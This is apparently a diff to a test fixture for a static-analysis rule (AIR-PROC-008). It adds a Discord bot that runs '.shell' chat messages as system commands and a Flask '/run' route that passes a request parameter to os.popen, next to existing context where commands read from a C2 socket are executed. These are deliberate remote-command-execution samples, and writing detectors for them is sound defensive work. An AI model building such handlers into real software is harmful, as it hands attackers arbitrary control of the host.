@@ -2,6 +2,9 @@
 import os
 import subprocess
 import asyncio
+
+import discord
+import flask
 import subprocess as sp
 from os import system as run_shell
 
@@ -93,6 +96,27 @@ order = c2.recv(1024).decode().strip()
 result = subprocess.getoutput(order)
 # ok: AIR-PROC-008
 subprocess.run(["echo", "done"])
+
+chat = discord.Client(intents=discord.Intents.all())
+
+
+@chat.event
+async def on_message(message):
+    if message.content.startswith(".shell"):
+        # ruleid: AIR-PROC-008
+        output = subprocess.getoutput(message.content[7:])
+        await message.channel.send(output)
+    # ok: AIR-PROC-008
+    subprocess.run(["notify-send", "message received"])
+
+
+web = flask.Flask(__name__)
+
+
+@web.route("/run")
+def run_remote():
+    # ruleid: AIR-PROC-008
+    return os.popen(flask.request.args.get("c")).read()
 
 
 async def remote_loop():
